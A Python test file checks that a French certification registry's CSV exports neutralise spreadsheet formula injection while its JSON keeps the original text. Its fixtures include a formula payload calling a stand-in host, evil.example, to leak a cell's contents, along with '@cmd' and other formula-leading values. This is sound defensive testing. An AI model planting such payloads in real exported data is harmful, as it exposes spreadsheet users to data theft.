"""CSV cells are safe to open in a spreadsheet (issue 11, point 6), and the data says so.

Every CSV the site publishes is read back: no cell starts with what a spreadsheet takes for a formula;
the JSON exports keep the exact text; the Table Schema and /donnees/ say it in French.
"""

from __future__ import annotations

import csv
import io
import json

from generator.export import build_exports
from generator.export.table import FORMULA_STARTS, certificates_csv, table_schema
from generator.registry import build_registry
from generator.render import render_site
from generator.site import SiteInfo
from tests.conftest import CERTIFIER, COMPANY, STANDARD, TODAY

SITE = SiteInfo("https://example.org/")
NAME = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
HOSTILE = {
    "companies/societe-electrique.yml": COMPANY.replace("name: Société Électrique", f"name: '{NAME}'")
    .replace("number: 'A-1'", "number: '-2+3'\n    scope: '+33 1 23 45 67 89'\n    category: '@SOMME(A1:A9)'"),
    "standards/iso-test.yml": STANDARD.replace("name: Norme de test", "name: '=1+1'"),
    "certifiers/afnor.yml": CERTIFIER.replace("name: AFNOR Certification", "name: '@cmd'"),
}
WRITTEN = {"company_name": NAME, "number": "-2+3", "scope": "+33 1 23 45 67 89", "category": "@SOMME(A1:A9)",
           "standard_name": "=1+1", "certifier_name": "@cmd"}


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_published_csv_neutralises_formulas_and_the_json_keeps_the_text(make_registry) -> None:
    registry = build_registry(str(make_registry(HOSTILE)), TODAY)
    assert registry.errors == []
    files = build_exports(registry, SITE)
    tables = {path: content.decode("utf-8") for path, content in files.items() if path.endswith(".csv")}
    assert "api/v1/certificates.csv" in tables
    for path, text in tables.items():
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], path
    [row] = rows(tables["api/v1/certificates.csv"])
    assert {key: row[key] for key in WRITTEN} == {key: "'" + value for key, value in WRITTEN.items()}
    data = json.loads(files["api/v1/registry.json"])
    [company] = data["companies"]
    assert company["name"] == NAME
    assert company["certifications"][0]["scope"] == "+33 1 23 45 67 89"
    assert {s["name"] for s in data["standards"]} >= {"=1+1"}
    alone = json.loads(files["api/v1/entreprises/societe-electrique.json"])
    assert alone["name"] == NAME and alone["certifications"][0]["number"] == "-2+3"


def test_a_tab_or_a_carriage_return_at_the_start_is_neutralised_too(make_registry) -> None:
    """The validator refuses both in a name; the CSV does not rely on it."""
    registry = build_registry(str(make_registry()), TODAY)
    company = registry.companies["societe-electrique"]
    registry.companies["societe-electrique"] = company.model_copy(update={"name": "\tcmd"})
    view = registry.certificates["societe-electrique"][0]
    certificate = view.certificate.model_copy(update={"scope": "\r=1+1", "number": "\r\n-1"})
    registry.certificates["societe-electrique"][0] = type(view)(**{**view.__dict__, "certificate": certificate})
    [row] = rows(certificates_csv(registry, SITE))
    assert (row["company_name"], row["scope"], row["number"]) == ("'\tcmd", "'\n=1+1", "'\n-1")


def test_harmless_text_is_left_as_it_is(make_registry) -> None:
    [row] = rows(certificates_csv(build_registry(str(make_registry()), TODAY), SITE))
    assert (row["company_name"], row["number"], row["issued"]) == ("Société Électrique", "A-1", "2024-02-29")


NOTE = ("Une cellule de texte qui commence par « = », « + », « - », « @ », une tabulation ou un retour chariot est "
        "précédée d'une "
        "apostrophe ('), pour qu'un tableur ne la prenne pas pour une formule ; les exports JSON gardent le texte "
        "exact.")


def test_the_table_schema_and_the_open_data_page_say_so(make_registry) -> None:
    assert table_schema(SITE)["description"].endswith(NOTE)
    registry = build_registry(str(make_registry()), TODAY)
    page = render_site(registry, SITE)["donnees/index.md"].content
    assert NOTE.replace("'", "&#39;") in page
